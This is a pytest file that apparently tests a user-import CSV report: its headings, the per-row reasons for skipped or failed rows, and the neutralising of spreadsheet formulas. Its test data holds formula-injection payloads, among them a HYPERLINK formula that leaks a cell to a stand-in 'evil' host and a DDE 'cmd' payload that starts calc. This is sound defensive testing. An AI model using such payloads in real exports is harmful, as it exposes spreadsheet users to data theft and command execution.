"""The import report (API.md §0, §7): `line,email,outcome,reason`; the email as the file gave it,
valid or not; a reason on every row that did not create or update; every cell a spreadsheet would
run as a formula neutralised, through the one writer every CSV of the product uses."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from chalicelib.domain.imports import ImportMode, Outcome, RowPlan, plan_row, seat_refused
from chalicelib.domain.models import Role, User, UserStatus
from chalicelib.domain.user_csv import GIVEN_EMAIL_CHARS, RowError, UserRecord, read_file
from chalicelib.services.imports.chunks import _bad_row, _seen_before
from chalicelib.services.imports.outcome import REPORT_HEADING, Row, report_lines

NOW = datetime(2026, 11, 25, tzinfo=UTC)
PAT = User(
    id="u1",
    domain="acme",
    email="pat@acme.example",
    first_name="Pat",
    last_name="Old",
    role=Role.MEMBER,
    status=UserStatus.ACTIVE,
    created_at=NOW,
)


def _cells(rows: list[Row]) -> list[list[str]]:
    return list(csv.reader(io.StringIO(report_lines(rows).decode())))


def test_the_heading_is_line_email_outcome_reason() -> None:
    assert REPORT_HEADING == b"line,email,outcome,reason\r\n"


def test_the_report_neutralises_every_cell_a_spreadsheet_would_run() -> None:
    rows = [
        Row(
            2,
            "",
            Outcome.FAILED,
            ("invalid_email", "-bad"),
            given='=HYPERLINK("http://evil/?"&C3,"Open")&"@x.io',
        ),
        Row(3, "ann@acme.example", Outcome.CREATED),
    ]
    lines = report_lines(rows).decode().splitlines()
    assert lines[0].startswith("2,\"'=HYPERLINK(") and lines[0].endswith(",failed,'-bad")
    assert lines[1] == "3,ann@acme.example,created,"


def test_the_email_is_shown_as_the_file_gave_it() -> None:
    rows = [
        Row(2, "ann@acme.example", Outcome.CREATED, given="Ann@ACME.example"),
        Row(3, "", Outcome.FAILED, ("invalid_email", "not an email"), given="=1+1@x.io"),
        Row(
            4, "bo@acme.example", Outcome.SKIPPED, reason="exists; mode is skip"
        ),  # given unknown: normalized
    ]
    assert _cells(rows) == [
        ["2", "Ann@ACME.example", "created", ""],
        ["3", "'=1+1@x.io", "failed", "not an email"],
        ["4", "bo@acme.example", "skipped", "exists; mode is skip"],
    ]


def test_the_parser_keeps_every_email_cell_as_given_and_bounded() -> None:
    long_cell = "x" * 5000 + "@acme.example"
    body = (
        "Email,Enabled\n"
        "  Ann@ACME.example ,\n"  # valid: normalized for the import, as given for the report
        "=cmd|' /C calc'!A0,\n"  # invalid
        f"{long_cell},\n"  # too long: kept cut, ending in …
        "short@acme.example\n"  # wrong field count: the cell of the Email column
        "bad@acme.example,maybe\n"
    )
    _, rows = read_file(io.BytesIO(body.encode()))
    outcomes = [outcome for outcome, _ in rows]
    assert [type(o).__name__ for o in outcomes] == [
        "UserRecord",
        "RowError",
        "RowError",
        "RowError",
        "RowError",
    ]
    assert outcomes[0].email == "ann@acme.example"
    assert [o.given_email for o in outcomes] == [
        "Ann@ACME.example",
        "=cmd|' /C calc'!A0",
        long_cell[: GIVEN_EMAIL_CHARS - 1] + "…",
        "short@acme.example",
        "bad@acme.example",
    ]
    assert len(outcomes[2].given_email) == GIVEN_EMAIL_CHARS
    # equality of records and errors ignores it (the parser's tests compare them)
    assert outcomes[0] == UserRecord(2, "ann@acme.example")


def _planned(state: UserStatus | None, enabled: bool | None, mode: ImportMode, **record: object) -> RowPlan:
    row = UserRecord(line=2, email="pat@acme.example", enabled=enabled, **record)  # type: ignore[arg-type]
    existing = replace(PAT, status=state) if state is not None else None
    return plan_row(row, existing, True, mode, "u2", "acme", NOW, "admin@acme.example")


def _row(plan: RowPlan) -> Row:
    return Row(2, "pat@acme.example", plan.outcome, plan.error, True, "pat@acme.example", plan.reason)


def _duplicate() -> Row:
    row = _seen_before(UserRecord(4, "pat@acme.example"), {}, {"pat@acme.example": 3})
    assert row is not None
    return row


def _self_deactivation() -> Row:
    admin = replace(PAT, email="admin@acme.example")
    record = UserRecord(2, "admin@acme.example", enabled=False)
    plan = plan_row(record, admin, True, ImportMode.SKIP, "u2", "acme", NOW, "admin@acme.example")
    return _row(plan)


def _being_deleted() -> Row:
    doomed = replace(PAT, deletion_requested=True)
    return _row(
        plan_row(UserRecord(2, "pat@acme.example"), doomed, True, ImportMode.SKIP, "u2", "acme", NOW, None)
    )


# Every way a row ends without creating or updating its user, and the reason it is given.
CASES: dict[str, tuple[Row, str]] = {
    "FALSE for a new email": (
        _row(_planned(None, False, ImportMode.SKIP)),
        "Enabled is FALSE, which never creates a user",
    ),
    "exists, mode skip": (_row(_planned(UserStatus.ACTIVE, None, ImportMode.SKIP)), "exists; mode is skip"),
    "exists, TRUE, mode skip": (
        _row(_planned(UserStatus.INVITED, True, ImportMode.SKIP)),
        "exists; mode is skip",
    ),
    "exists, nothing to change": (
        _row(_planned(UserStatus.ACTIVE, None, ImportMode.UPDATE)),
        "exists; the row changes none of its fields",
    ),
    "already deactivated, skip": (
        _row(_planned(UserStatus.DEACTIVATED, False, ImportMode.SKIP)),
        "already deactivated; mode is skip",
    ),
    "already deactivated, update": (
        _row(_planned(UserStatus.DEACTIVATED, False, ImportMode.UPDATE)),
        "already deactivated",
    ),
    "activated": (
        _row(_planned(UserStatus.DEACTIVATED, True, ImportMode.SKIP)),
        "Enabled is TRUE and the user was deactivated; now active",
    ),
    "deactivated": (
        _row(_planned(UserStatus.INVITED, False, ImportMode.SKIP)),
        "Enabled is FALSE and the user was invited",
    ),
    "cannot deactivate self": (_self_deactivation(), "You cannot deactivate yourself."),
    "being deleted": (_being_deleted(), "This user is being deleted."),
    "no seat left": (
        _row(seat_refused(_planned(None, None, ImportMode.SKIP), 25, 25)),
        "No seat left (25 of 25 used); free one or buy more.",
    ),
    "a bad row": (
        _bad_row(RowError(2, "invalid_enabled", "The Enabled field is wrong.", "pat@acme.example"), {}, {}),
        "The Enabled field is wrong.",
    ),
    "an email already on an earlier line": (
        _duplicate(),
        "pat@acme.example is already on line 3; the first row wins.",
    ),
}


@pytest.mark.parametrize("case", list(CASES))
def test_every_row_that_neither_creates_nor_updates_says_why(case: str) -> None:
    row, reason = CASES[case]
    assert row.outcome not in (Outcome.CREATED, Outcome.UPDATED)
    ((_, _, outcome, said),) = _cells([row])
    assert said == reason and said.strip()
    assert outcome == row.outcome.value


def test_the_cases_cover_every_outcome_but_created_and_updated() -> None:
    covered = {row.outcome for row, _ in CASES.values()}
    assert covered == set(Outcome) - {Outcome.CREATED, Outcome.UPDATED}
